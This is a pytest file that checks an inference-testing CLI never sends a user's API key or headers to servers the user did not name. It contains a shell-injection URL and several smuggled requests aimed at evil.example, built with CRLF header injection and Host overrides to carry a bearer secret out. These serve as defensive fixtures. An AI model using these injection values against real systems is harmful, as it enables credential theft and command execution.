"""No key, and no header of the user's, goes to an address that the user did not give: on the command line, or in a
target file of their own.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from click.testing import CliRunner

from inferproof.certify import target as targets
from inferproof.certify.certify import Certification, certify
from inferproof.certify.target import Target, UsageError, contract_in, target_file
from inferproof.cli import main
from inferproof.document import Contract
from inferproof.wire import transcript
from inferproof.wire.exchange import Exchange, Request
from tests.command.running import inferproof, refused

KEY, TOKEN, OTHER = "sk-of-the-user-0123456789", "gateway-token-0123456789", "sk-of-another-server-0123456789"
ENV = {"INFERPROOF_API_KEY": KEY, "STAGING_KEY": OTHER, "no_proxy": "", "NO_PROXY": ""}


class Listener:
    """A server that notes every head it is sent, and answers `{}`, or a redirect."""

    def __init__(self, redirect: str = "") -> None:
        self.heads: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self) -> None:
                listener.heads.append(f"{self.requestline}\n{self.headers}")
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                self.send_response(307 if redirect else 200)
                if redirect:
                    self.send_header("Location", redirect + self.path)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_OPTIONS = do_TRACE = do_QUERY = answer

            def log_message(self, format: str, *arguments: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    @contextmanager
    def serving(self) -> Iterator[Listener]:
        thread = threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True)
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()
            thread.join()

    def got(self, *secrets: str) -> bool:
        return any(secret in head for head in self.heads for secret in secrets)


@pytest.fixture
def mine() -> Iterator[Listener]:
    with Listener().serving() as listener:
        yield listener


@pytest.fixture
def theirs() -> Iterator[Listener]:
    with Listener().serving() as listener:
        yield listener


def recorded(certification: Certification, folder: Path, url: str, request: Request | None = None) -> Path:
    """A transcript that says it was recorded from `url`, as anybody can make one."""
    found = next(each for each in certification.transcript.exchanges if each.probe == "chat.minimal")
    header = certification.transcript.header
    header = header | {"target": header["target"] | {"url": url}}
    path = folder / "transcript.jsonl"
    transcript.write(path, header, [Exchange("chat.minimal", 0, "chat", request or found.request, found.reply)])
    return path


def written(folder: Path, text: str, name: str = "inferproof.toml") -> Path:
    (folder / name).write_text(text)
    return folder / name


ITS_OWN = f'key_variable = "STAGING_KEY"\n[headers]\nX-Gateway-Token = "{TOKEN}"\n'


def test_replay_sends_nothing_because_a_transcript_names_a_server(
    certification: Certification, tmp_path: Path, theirs: Listener
) -> None:
    recorded(certification, tmp_path, theirs.url)
    done = inferproof("replay", "transcript.jsonl", "chat.minimal/0", folder=tmp_path, env=ENV)
    refused(done, f"inferproof replay --url {theirs.url} transcript.jsonl chat.minimal/0")
    assert theirs.heads == []


def test_the_command_to_type_is_quoted(certification: Certification, tmp_path: Path) -> None:
    recorded(certification, tmp_path, "http://h/$(touch${IFS}PWNED)")
    done = inferproof("replay", "transcript.jsonl", "chat.minimal/0", folder=tmp_path, env=ENV)
    refused(done, "inferproof replay --url 'http://h/$(touch${IFS}PWNED)' transcript.jsonl chat.minimal/0")


def test_replay_goes_where_the_command_line_says(
    certification: Certification, tmp_path: Path, mine: Listener, theirs: Listener
) -> None:
    recorded(certification, tmp_path, theirs.url)
    arguments = ("replay", "transcript.jsonl", "chat.minimal/0", "--url", mine.url)
    inferproof(*arguments, folder=tmp_path, env=ENV)
    assert mine.got(KEY)
    assert theirs.heads == []


def test_replay_goes_to_the_server_of_the_target_file_where_the_transcript_is_of_the_same(
    certification: Certification, tmp_path: Path, mine: Listener
) -> None:
    recorded(certification, tmp_path, mine.url)
    written(tmp_path, f'url = "{mine.url}/"\n{ITS_OWN}')
    done = inferproof("replay", "transcript.jsonl", "chat.minimal/0", folder=tmp_path, env=ENV)
    assert mine.got(OTHER)
    assert mine.got(TOKEN)
    assert f"has the key in STAGING_KEY and the headers X-Gateway-Token sent to {mine.url}" in done.stderr


def test_replay_asks_where_a_found_target_file_and_the_transcript_differ(
    certification: Certification, tmp_path: Path, mine: Listener, theirs: Listener
) -> None:
    recorded(certification, tmp_path, theirs.url)
    written(tmp_path, f'url = "{mine.url}"\n{ITS_OWN}')
    done = inferproof("replay", "transcript.jsonl", "chat.minimal/0", folder=tmp_path, env=ENV)
    refused(done, f"replay --url {mine.url} ", f"replay --url {theirs.url} ", "say where to send it")
    assert mine.heads == theirs.heads == []


def test_replay_goes_to_the_server_of_a_target_file_that_is_named(
    certification: Certification, tmp_path: Path, mine: Listener, theirs: Listener
) -> None:
    recorded(certification, tmp_path, theirs.url)
    file = written(tmp_path, f'url = "{mine.url}"\n{ITS_OWN}', "mine.toml")
    inferproof("replay", "transcript.jsonl", "chat.minimal/0", "--target", str(file), folder=tmp_path, env=ENV)
    assert mine.got(OTHER)
    assert theirs.heads == []


def test_a_case_that_was_kept_needs_a_server_to_be_named(tmp_path: Path) -> None:
    written(tmp_path, '{"role": "chat", "body": {"model": "model", "messages": []}}', "a.json")
    refused(inferproof("replay", "a.json", folder=tmp_path, env=ENV), "inferproof replay --url URL a.json")


ODD = [
    Request("GET", "@evil.example/", (("Authorization", "Bearer {{secret:key}}"),)),
    Request("GET", ".evil.example/", (("Authorization", "Bearer {{secret:key}}"),)),
    Request("GET", "http://evil.example/", (("Authorization", "Bearer {{secret:key}}"),)),
    Request("GET", "/", (("Host", "evil.example"), ("Authorization", "Bearer {{secret:key}}"))),
    Request("GET", "/", (("X-A", "b\r\nHost: evil.example"), ("Authorization", "Bearer {{secret:key}}"))),
    Request("GET / HTTP/1.1\r\nHost: evil.example\r\nX:", "/", (("Authorization", "Bearer {{secret:key}}"),)),
    Request("GET", "/", raw=b"GET http://evil.example/ HTTP/1.1\r\nAuthorization: Bearer {{secret:key}}\r\n\r\n"),
]


@pytest.mark.parametrize("request_", ODD, ids=["user", "suffix", "absolute", "host", "line break", "method", "raw"])
def test_a_recorded_request_leads_no_proxy_to_another_server(
    request_: Request, certification: Certification, tmp_path: Path, mine: Listener
) -> None:
    recorded(certification, tmp_path, "http://mine.example", request_)
    proxy = {"http_proxy": mine.url, "HTTP_PROXY": mine.url}
    arguments = ("replay", "transcript.jsonl", "chat.minimal/0", "--url", "http://mine.example")
    refused(inferproof(*arguments, folder=tmp_path, env=ENV | proxy), "is no request as a run sends them")
    assert not any("evil" in head for head in mine.heads)


def test_judge_sends_nothing(certification: Certification, tmp_path: Path, theirs: Listener) -> None:
    path = recorded(certification, tmp_path, theirs.url)
    done = CliRunner().invoke(main, ["judge", str(path)], env=ENV)
    assert done.exit_code in (0, 1, 3)
    assert theirs.heads == []


def test_no_redirect_is_followed(contract: Contract, theirs: Listener) -> None:
    with Listener(redirect=theirs.url).serving() as mine, pytest.raises(UsageError, match="redirects to"):
        certify(contract, Target(mine.url, key=KEY, headers=(("X-Gateway-Token", TOKEN),)), only=["status.*"])
    assert mine.got(KEY)
    assert theirs.heads == []


@pytest.mark.parametrize("command", [("certify", "--quick", "--only", "status.*"), ("init",)], ids=["certify", "init"])
def test_a_found_target_file_keeps_what_is_its_own_servers(
    command: tuple[str, ...], tmp_path: Path, mine: Listener, theirs: Listener
) -> None:
    """The other server is on the command line, so it may have the key that is in the usual variable."""
    written(tmp_path, f'url = "{mine.url}"\n{ITS_OWN}')
    name, *more = command
    more += ["--force"] if name == "init" else []
    done = inferproof(name, theirs.url, *more, folder=tmp_path, env=ENV)
    assert not theirs.got(OTHER, TOKEN)
    assert theirs.got(KEY)
    assert mine.heads == []
    if name == "certify":
        assert f"its key_variable and headers stay away from {theirs.url}" in done.stderr


def test_a_target_file_that_is_named_speaks_for_the_server_of_the_command_line_too(
    tmp_path: Path, mine: Listener
) -> None:
    written(tmp_path, f'url = "http://other.example"\n{ITS_OWN}')
    arguments = ("certify", mine.url, "--target", "inferproof.toml", "--quick", "--only", "status.*")
    done = inferproof(*arguments, folder=tmp_path, env=ENV)
    assert mine.got(OTHER)
    assert mine.got(TOKEN)
    assert f"has the key in STAGING_KEY and the headers X-Gateway-Token sent to {mine.url}" in done.stderr


@pytest.mark.parametrize(
    ("file", "typed", "goes"),
    [
        ("http://h:80/api", "http://H/", True),
        ("http://h", "https://h", False),
        ("https://h", "https://h:8443", False),
        ("https://h", "https://h.evil.example", False),
        ("https://a.h", "https://h", False),
    ],
)
def test_the_same_server_is_the_same_origin(file: str, typed: str, goes: bool, tmp_path: Path) -> None:
    found = targets.TargetFile({"url": file, "key_variable": "STAGING_KEY"}, tmp_path)
    assert (found.kept_home(typed) == ()) is goes


def test_a_target_file_says_where_it_has_the_key_sent_before_anything_is_sent(tmp_path: Path) -> None:
    """As one may that came with somebody else's folder; the name of the variable and the address are said in time."""
    written(tmp_path, 'url = "http://127.0.0.1:1"\nkey_variable = "STAGING_KEY"\n')
    done = inferproof("certify", folder=tmp_path, env=ENV)
    refused(done, "cannot be reached")
    note, error = done.stderr.splitlines()
    assert note == "inferproof: note: inferproof.toml has the key in STAGING_KEY sent to http://127.0.0.1:1"
    assert "cannot be reached" in error


def test_a_proxy_of_the_environment_is_said_with_it(tmp_path: Path, mine: Listener) -> None:
    written(tmp_path, 'url = "http://inference.example"\nkey_variable = "STAGING_KEY"\n')
    proxy = {"http_proxy": mine.url, "HTTP_PROXY": mine.url}
    done = inferproof("certify", "--quick", "--only", "status.*", folder=tmp_path, env=ENV | proxy)
    assert f"sent to http://inference.example through the proxy {mine.url.removeprefix('http://')}" in done.stderr


def test_a_found_target_file_of_another_user_is_not_ours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    written(tmp_path, 'url = "http://h"\n')
    monkeypatch.chdir(tmp_path)
    owner = (tmp_path / "inferproof.toml").stat().st_uid
    monkeypatch.setattr(os, "getuid", lambda: owner + 1)
    monkeypatch.setattr(targets, "ADMINISTRATOR", -1)
    with pytest.raises(UsageError, match="is another user's"):
        target_file()
    assert target_file("inferproof.toml").url == "http://h"


def test_a_found_target_file_of_another_user_names_no_contract(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A contract says which paths are asked and which header has the key: it is as little theirs to say as the URL."""
    written(tmp_path, 'contract = "io-intelligence"\n')
    monkeypatch.chdir(tmp_path)
    assert contract_in() == "io-intelligence"
    owner = (tmp_path / "inferproof.toml").stat().st_uid
    monkeypatch.setattr(os, "getuid", lambda: owner + 1)
    monkeypatch.setattr(targets, "ADMINISTRATOR", -1)
    assert contract_in() is None
    with pytest.raises(UsageError, match="is another user's"):
        target_file()
    assert contract_in("inferproof.toml") == "io-intelligence"


CRAFTED = """\
import schemathesis
from inferproof.generated.coverage import MADE
from inferproof.schemathesis import install

document = install().document()
document[MADE] = "inflection"
document["servers"] = [{"url": "URL"}]
schema = schemathesis.openapi.from_dict(document)


@schema.include(path=["/v1/discovery/configs"]).parametrize()
def test_api(case):
    case.call()
"""

TYPED = """\
from inferproof.schemathesis import install

schema = install().schema("URL")


@schema.include(path=["/v1/discovery/configs"]).parametrize()
def test_api(case):
    case.call()
"""


def in_pytest(folder: Path, test: str, **variables: str) -> subprocess.CompletedProcess[str]:
    written(folder, test, "test_api.py")
    (folder / "pytest.ini").touch()
    return subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:xdist", "test_api.py"],
        cwd=folder,
        env={**os.environ, **ENV, **variables},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )


def test_a_document_that_says_it_is_ours_gets_no_key_for_its_server(tmp_path: Path, theirs: Listener) -> None:
    done = in_pytest(tmp_path, CRAFTED.replace("URL", theirs.url))
    assert "test_api" in done.stdout
    assert not theirs.got(KEY)


def test_the_hooks_keep_the_key_of_another_server_at_home(tmp_path: Path, mine: Listener, theirs: Listener) -> None:
    written(tmp_path, f'url = "{mine.url}"\nkey_variable = "STAGING_KEY"\n')
    done = in_pytest(tmp_path, TYPED.replace("URL", theirs.url))
    assert theirs.heads
    assert not theirs.got(OTHER)
    assert "its key stays away from" in done.stdout
    in_pytest(tmp_path, TYPED.replace("URL", mine.url))
    assert mine.got(OTHER)


def test_the_hooks_send_the_key_where_the_file_is_named(tmp_path: Path, theirs: Listener) -> None:
    written(tmp_path, 'url = "http://other.example"\nkey_variable = "STAGING_KEY"\n')
    in_pytest(tmp_path, TYPED.replace("URL", theirs.url), INFERPROOF_TARGET="inferproof.toml")
    assert theirs.got(OTHER)


def test_the_plugin_keeps_the_key_of_another_server_at_home(tmp_path: Path, mine: Listener, theirs: Listener) -> None:
    written(tmp_path, f'url = "{mine.url}"\n{ITS_OWN}')
    (tmp_path / "pytest.ini").touch()
    command = [sys.executable, "-m", "pytest", "-v", "-p", "no:xdist", "--inferproof-url", theirs.url, "-k", "status"]
    done = subprocess.run(
        command, cwd=tmp_path, env={**os.environ, **ENV}, capture_output=True, text=True, timeout=300, check=False
    )
    assert theirs.heads
    assert not theirs.got(OTHER, TOKEN)
    assert f"its key_variable and headers stay away from {theirs.url}" in done.stdout
